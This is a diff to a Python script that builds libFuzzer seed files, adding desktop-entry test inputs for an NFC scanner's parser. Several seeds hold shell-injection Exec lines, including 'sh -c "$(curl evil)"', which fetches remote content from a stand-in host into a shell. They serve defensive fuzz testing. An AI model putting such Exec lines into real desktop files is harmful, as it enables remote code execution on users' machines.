@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """Regenerate the committed seed corpus of the libFuzzer targets (Tests/Fuzz/corpus/).
 
-    python3 Tests/Fuzz/make_seeds.py    # rewrites Tests/Fuzz/corpus/{message,tlv,cc,options,config,rfkill}/
+    python3 Tests/Fuzz/make_seeds.py    # rewrites Tests/Fuzz/corpus/{message,tlv,cc,options,config,rfkill,desktop}/
 
 Deterministic: no randomness, so the same files come out every time. Valid messages are built
 with ndeflib (PyPI `ndeflib`, module `ndef`), the independent encoder the oracle test uses; the
@@ -351,6 +351,28 @@ def options_seeds():
 
 
 # ---------------------------------------------------------------------------
+# desktop: desktop entry files (Desktop Entry Specification) with X-NFCScan-Filters
+
+def desktop_seeds():
+    head = b'[Desktop Entry]\nType=Application\nName=Posters\n'
+    s = {}
+    s['exec-file'] = head + b'Icon=org.example.Posters\nExec=posters --scan %f\nX-NFCScan-Filters=media-type=text/vcard;\n'
+    s['exec-link'] = head + b'Exec="/opt/My Posters/posters" %U %i %c %k 100%%\nX-NFCScan-Filters=uri-scheme=https,uri-host=example.com\n'
+    s['dbus'] = head + b'DBusActivatable=true\nNoDisplay=true\nX-NFCScan-Filters=external-type=example.com:ticket\n'
+    s['localised'] = head + b'Name[de]=Plakate\nName[zh_CN]=\xe6\xb5\xb7\xe6\x8a\xa5\nExec=p\n\n[Desktop Action New]\nName=New\nExec=p --new\n'
+    s['hidden'] = b'[Desktop Entry]\r\nType=Application\r\nName=P\r\nHidden=true\r\n'
+    s['tryexec'] = head + b'TryExec=posters\nExec=posters\n'
+    s['quoted-code'] = head + b'Exec=sh -c "open %u"\n'
+    s['shell-code'] = head + b'Exec=sh -c %u\n'
+    s['shell-subst'] = head + b'Exec=sh -c "$(curl evil)"\n'
+    s['escapes'] = head + b'Exec=p "a \\\\"b\\\\" \\$x"\\sx\n'
+    s['duplicate-key'] = head + b'Name=Other\nExec=p\n'
+    s['no-group'] = b'Type=Application\n'
+    s['bad-utf8'] = b'[Desktop Entry]\nType=Application\nName=\xc3\x28\nExec=p\n'
+    s['bad-locale'] = head + b'Name[=x\nExec=p\n'
+    return s
+
+
 # config: nfcscand.conf
 
 def config_seeds():
@@ -396,7 +418,8 @@ def rfkill_seeds():
 
 def main():
     targets = {'message': message_seeds(), 'tlv': tlv_seeds(), 'cc': cc_seeds(),
-               'options': options_seeds(), 'config': config_seeds(), 'rfkill': rfkill_seeds()}
+               'options': options_seeds(), 'config': config_seeds(), 'rfkill': rfkill_seeds(),
+               'desktop': desktop_seeds()}
     for target, seeds in targets.items():
         directory = os.path.join(CORPUS, target)
         shutil.rmtree(directory, ignore_errors=True)
